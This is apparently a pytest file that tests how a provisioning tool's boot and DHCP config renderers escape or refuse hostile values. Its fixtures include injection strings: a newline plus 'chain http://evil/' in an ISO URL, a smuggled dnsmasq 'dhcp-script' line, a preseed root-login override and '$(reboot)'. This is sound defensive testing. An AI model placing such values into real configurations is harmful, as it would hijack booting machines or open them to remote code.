"""Defence in depth: each renderer escapes for its own language, or
refuses, even when a hostile value got past validation (here: put into the validated
model by hand, as a bug in a future check would)."""

from __future__ import annotations

import dataclasses
import json
import shutil
import subprocess
from collections.abc import Callable
from ipaddress import IPv4Address
from pathlib import Path
from typing import Any

import pytest

from fleet.inventory.load import load_inventory
from fleet.inventory.model import Inventory
from fleet.render import bootscripts, escape, pxe, render_all, sitepxe

ROOT = Path(__file__).resolve().parents[2]
SMALL = ROOT / "tests" / "fixtures" / "small.yaml"
IMAGE = {"type": "debian-preseed", "kernel": "images/debian-12/linux",
         "initrd": "images/debian-12/initrd.gz", "mirror": "http://deb.example/debian"}


def _with_site(inv: Inventory, **changes: object) -> Inventory:
    site = inv.raw.site.model_copy(update=changes)
    return dataclasses.replace(inv, raw=inv.raw.model_copy(update={"site": site}))


def _with_install(inv: Inventory, **changes: object) -> Inventory:
    return _with_site(inv, install=inv.raw.site.install.model_copy(update=changes))


@pytest.fixture(scope="module")
def small() -> Inventory:
    return load_inventory(SMALL)


@pytest.fixture(scope="module")
def debian(tmp_path_factory: pytest.TempPathFactory) -> Inventory:
    overlay = tmp_path_factory.mktemp("ov") / "overlay.yaml"
    overlay.write_text(json.dumps({"site": {"images": {"debian-12": IMAGE}},
                                   "node_groups": {"part-a": {"image": "debian-12"}}}))
    return load_inventory(SMALL, overlay)


@pytest.mark.parametrize("kernel", ["images/vmlinuz\nboot", "images/vm linuz",
                                    "images/${net0/ip}", "images/a'b"])
def test_ipxe_and_grub_refuse_a_kernel_path_they_cannot_hold(small: Inventory,
                                                             kernel: str) -> None:
    with pytest.raises(escape.UnsafeValueError):
        pxe.render(_with_install(small, kernel=kernel))


def test_an_iso_url_with_a_newline_never_reaches_a_kernel_line(small: Inventory) -> None:
    bad = _with_install(small, iso_url="http://10.1.0.10/x.iso\nchain http://evil/")
    with pytest.raises(escape.UnsafeValueError):
        pxe.render(bad)


def test_a_domain_with_a_newline_never_reaches_dnsmasq(small: Inventory) -> None:
    with pytest.raises(escape.UnsafeValueError):
        pxe.render(_with_site(small, domain="lab.test\ndhcp-script=/tmp/x"))


def test_a_preseed_answer_with_a_newline_is_refused(debian: Inventory) -> None:
    with pytest.raises(escape.UnsafeValueError):
        render_all(_with_site(debian, timezone="UTC\nd-i passwd/root-login boolean true"))


@pytest.mark.parametrize(("word", "quoted"), [
    ("plain=1", "plain=1"),
    ("ds=nocloud-net;s=http://x/", "'ds=nocloud-net;s=http://x/'"),
    ("it's", "'it'\\''s'"),
    ("$(reboot)", "'$(reboot)'"),
    ("a b", "'a b'"),
])
def test_grub_words_are_quoted_where_grub_would_split_or_expand(word: str,
                                                                quoted: str) -> None:
    assert escape.grub_word(word) == quoted


def test_grub_script_check_accepts_quoted_hostile_words(tmp_path: Path) -> None:
    check = shutil.which("grub-script-check")
    if check is None:
        pytest.fail("grub-script-check is missing: tools/install-host-deps.sh installs "
                    "grub-common")
    words = ["it's", "$(reboot)", "a;b", "{x}", "a\\b", '"q"', "#c", "a&&b"]
    script = tmp_path / "t.cfg"
    script.write_text("menuentry 'x " + escape.grub_title("it's; $(x)") + "' {\n"
                      "  linux /vmlinuz " + " ".join(escape.grub_word(w) for w in words)
                      + "\n}\n")
    r = subprocess.run([check, str(script)], capture_output=True, text=True, check=False)
    assert r.returncode == 0, r.stdout + r.stderr


@pytest.mark.parametrize("word", ["a b", "${x}", "a'b", 'a"b', "a\nb", ""])
def test_ipxe_words_refuse_what_ipxe_would_split_or_expand(word: str) -> None:
    with pytest.raises(escape.UnsafeValueError):
        escape.ipxe_word(word)


_NET = sitepxe.DhcpNet(name="prov", purpose="provisioning", vlan=20,
                       network=IPv4Address("10.1.0.0"), netmask=IPv4Address("255.255.252.0"),
                       gateway=IPv4Address("10.1.0.1"), mtu=9000,
                       pool=(IPv4Address("10.1.3.200"), IPv4Address("10.1.3.250")),
                       relayed=False, commission=True)
_COMMISSION = sitepxe.Commission(option=224, value="fleet-commission",
                                 config="grub/commission.cfg")
_DNSMASQ: dict[str, Any] = {
    "prov_host": "head-01", "interface": "eno1", "domain": "example.org",
    "pxe_root": "/srv/pxe", "networks": [_NET], "dns_servers": "10.1.0.10",
    "upstream_dns": ["1.1.1.1"], "http": "http://10.1.0.10", "commission": _COMMISSION}
_GRUB: dict[str, Any] = {"http_host": "10.1.0.10", "tftp_server": "10.1.0.11",
                         "commission": _COMMISSION}
_CBOOT = sitepxe.CommissionBoot(http="http://10.1.0.10", tftp_server="10.1.0.11",
                                kernel="images/commission/vmlinuz",
                                initrd="images/commission/initrd.img",
                                cmdline="ip=dhcp", boot_mac="${mac}")
# each site file, rendered with one string value replaced
_SITE: dict[str, Callable[[str, str], str]] = {
    **{f"dnsmasq.conf {k}": lambda k, v: sitepxe.dnsmasq_conf(**{**_DNSMASQ, k: v})
       for k, v in _DNSMASQ.items() if isinstance(v, str)},
    "dnsmasq.conf upstream_dns": lambda _k, v: sitepxe.dnsmasq_conf(
        **{**_DNSMASQ, "upstream_dns": [v]}),
    **{f"dnsmasq.conf network {f}": lambda f, v: sitepxe.dnsmasq_conf(
        **{**_DNSMASQ, "networks": [_NET._replace(**{f: v})]})
       for f in ("name", "purpose")},
    "boot.ipxe http": lambda _k, v: sitepxe.boot_ipxe(v),
    **{f"grub.cfg {k}": lambda k, v: sitepxe.grub_cfg(**{**_GRUB, k: v})
       for k, v in _GRUB.items() if isinstance(v, str)},
    **{f"commission.ipxe {f}": lambda k, v: sitepxe.commission_ipxe(
        _CBOOT._replace(**{k: v}))
       for f in _CBOOT._fields if f != "tftp_server"},  # iPXE: over HTTP
    **{f"grub-commission.cfg {f}": lambda k, v: sitepxe.grub_commission_cfg(
        _CBOOT._replace(**{k: v}), _COMMISSION)
       for f in _CBOOT._fields if f != "http"},  # GRUB: over TFTP
}


@pytest.mark.parametrize("case", sorted(_SITE))
def test_every_site_pxe_value_is_shown_and_one_line(case: str) -> None:
    """Each string value of the site's PXE files lands in its file, and a line break in
    it is refused (escape.line), never written."""
    key = case.rsplit(" ", 1)[1]
    assert "marker-7f3a" in _SITE[case](key, "marker-7f3a")
    with pytest.raises(escape.UnsafeValueError):
        _SITE[case](key, "marker\nreboot")


_BOOT = bootscripts.Boot(hostname="gpu-01", mac="02:00:00:00:00:01", os_name="Ubuntu 24.04",
                         kernel="images/linux", initrd="images/initrd",
                         http="http://10.1.0.10", tftp_server="10.1.0.11")
_SCRIPTS = {
    "install.ipxe": lambda b: bootscripts.install_ipxe(b, "ip=dhcp autoinstall"),
    "local.ipxe": bootscripts.local_ipxe,
    "grub-install.cfg": lambda b: bootscripts.install_grub(b, "ip=dhcp autoinstall"),
    "grub-local.cfg": lambda b: bootscripts.local_grub(b, "ubuntu"),
}
# each script with each value it shows
_SHOWN = [(script, f.name) for script, render in sorted(_SCRIPTS.items())
          for f in dataclasses.fields(bootscripts.Boot)
          if getattr(_BOOT, f.name) in render(_BOOT)]


@pytest.mark.parametrize(("script", "field"), _SHOWN)
def test_every_boot_script_value_is_one_line(script: str, field: str) -> None:
    """A value in a node's boot script refuses a line break, (escape.line)."""
    value = getattr(_BOOT, field) + "\nreboot"
    with pytest.raises(escape.UnsafeValueError):
        _SCRIPTS[script](dataclasses.replace(_BOOT, **{field: value}))


def test_the_boot_scripts_show_every_value() -> None:
    assert {field for _script, field in _SHOWN} == {
        f.name for f in dataclasses.fields(bootscripts.Boot)}


@pytest.mark.parametrize("state", ["/srv/x;y", "/srv/x y", "/srv/${x}", "/srv/x{"])
def test_nginx_token_rules_refuse_a_path_that_is_not_one_word(small: Inventory,
                                                              state: str) -> None:
    with pytest.raises(escape.UnsafeValueError):
        pxe.render(_with_site(small, pxe_state=state))


def test_printable_text_skips_no_refusal() -> None:
    """line() and xml_text() pass printable text without their searches (most values):
    no character either search refuses is printable, in the whole of Unicode."""
    refused = [c for c in map(chr, range(0x110000)) if c.isprintable()
               and (escape._CONTROL.search(c) or escape._XML_ILLEGAL.search(c))]
    assert refused == []
    for c in ("\n", "\x85", "\u2028", "\ufffe", "\ud800"):
        with pytest.raises(escape.UnsafeValueError):
            escape.xml_text(f"a{c}b")
    assert escape.xml_text("<a & 'b'>") == "&lt;a &amp; &apos;b&apos;&gt;"
